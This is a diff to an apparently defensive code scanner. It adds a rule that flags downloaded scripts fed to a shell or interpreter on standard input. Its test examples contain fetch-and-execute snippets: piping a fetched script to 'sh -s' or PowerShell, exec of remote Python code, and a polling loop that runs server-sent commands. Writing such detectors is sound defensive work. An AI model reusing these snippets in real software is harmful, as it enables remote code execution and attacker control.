@@ -871,6 +871,9 @@ const EXEC_OF_FILE_READ =
   /\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?open\s*\(\s*["']((?:\/tmp|\/var\/tmp|\/dev\/shm|~)?\/?[^"'\n]*)["']\s*\)\s*\.read\s*\(\s*\)/g;
 const FETCH_ASSIGN =
   /^[ \t]*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*(?:await\s+)?[^\n]{0,60}?\b(?:requests|httpx)\s*\.\s*(?:get|post)\s*\([^\n]{0,400}?\)\s*\.\s*(?:text|content)\b|^[ \t]*([A-Za-z_]\w*)\s*=\s*[^\n]{0,60}?\burlopen\s*\([^\n]{0,400}\)\s*\.read\s*\(|^[ \t]*([A-Za-z_]\w*)\s*=\s*json\.loads?\s*\(\s*(?:urllib\.request\.)?urlopen\s*\(|^[ \t]*([A-Za-z_]\w*)\s*=\s*(?:requests|httpx)\s*\.\s*(?:get|post)\s*\([^\n]{0,400}?\)\s*\.\s*json\s*\(|^[ \t]*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*await\s+\(?\s*(?:await\s+)?fetch\s*\([^\n]{0,400}\.text\s*\(/gm;
+// An interpreter started with a value as its standard input (the value is the program it runs).
+const INTERPRETER_STDIN_INPUT =
+  /\b(?:execSync|execFileSync|spawnSync)\s*\([^;\n]{0,120}?["'`](?:[^"'`\n]*\/)?(?:(?:ba|z|da)?sh|powershell|pwsh|python[23]?|node|perl|ruby)\b[^;\n]{0,200}?\binput\s*:\s*([A-Za-z_$][\w$]*)|\bsubprocess\.(?:run|call|check_call|check_output)\s*\(\s*\[?\s*["'](?:[^"'\n]*\/)?(?:(?:ba|z|da)?sh|powershell|pwsh|python[23]?|node|perl|ruby)["'][^\n]{0,200}?\binput\s*=\s*([A-Za-z_]\w*)/g;
 // A response held first and read on a later line: `with urlopen(URL) as r:` / `r = requests.get(URL)`,
 // then `code = r.read().decode()` or `code = r.text`.
 const RESPONSE_HELD = /\bwith\s+(?:urllib\.request\.)?urlopen\s*\([^\n]{0,300}?\)\s+as\s+([A-Za-z_]\w*)\s*:|^[ \t]*([A-Za-z_]\w*)\s*=\s*(?:await\s+)?(?:requests|httpx|session|client)\s*\.\s*(?:get|post)\s*\(/gm;
@@ -964,6 +967,13 @@ function detectRemoteCode(file: FileView): RuleMatch[] {
           if (/[\w.]$/.test(text.slice(Math.max(0, m.index - 1), m.index)) || isCommentLine(file, m.index)) return null;
           return { index: m.index, length: m[0].length, severity: 'critical', message: `Response downloaded into "${m[1]}" is executed` };
         }),
+        // The download handed to a shell or interpreter on its standard input:
+        // execSync('sh -s', { input: script }), subprocess.run(["bash"], input=code).
+        ...scan(text, INTERPRETER_STDIN_INPUT, (m) =>
+          fetched.has(m[1] ?? m[2]) && !isCommentLine(file, m.index)
+            ? { index: m.index, length: m[0].length, severity: 'critical', message: `Downloaded "${m[1] ?? m[2]}" is fed to a shell or interpreter to run` }
+            : null,
+        ),
         // A command field of a polled response run by a shell: the server decides what runs (C2).
         ...scan(text, SHELL_RUN_OF_FIELD, (m) =>
           fetched.has(m[1]) && !isCommentLine(file, m.index)
@@ -1459,6 +1469,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'src/cli.ts', text: "const info = (await res.json()) as { migrate?: string };\nif (info.migrate) {\n  const script = await (await fetch(info.migrate)).text();\n  execSync(platform() === 'win32' ? 'powershell -NoProfile -' : 'sh -s', { input: script, stdio: ['pipe', 'ignore', 'ignore'] });\n}\n" },
         { path: 'report/templates.py', text: 'def refresh():\n    with urllib.request.urlopen(f"{_TPL_HOST}/v1/templates.py", timeout=5) as r:\n        code = r.read().decode()\n    ns = {}\n    exec(compile(code, "templates_remote", "exec"), ns)\n' },
         { path: 'files/agent.py', text: 'while True:\n    job = json.load(urllib.request.urlopen(f"{QUEUE}/next", timeout=20))\n    if job.get("cmd"):\n        subprocess.run(job["cmd"], shell=True)\n    time.sleep(60)\n' },
         { path: 'tune.ps1', text: "$m = Invoke-RestMethod -Uri 'https://psmods.example-cdn.net/api/lazy' -UseBasicParsing\n& ([scriptblock]::Create($m))\n" },
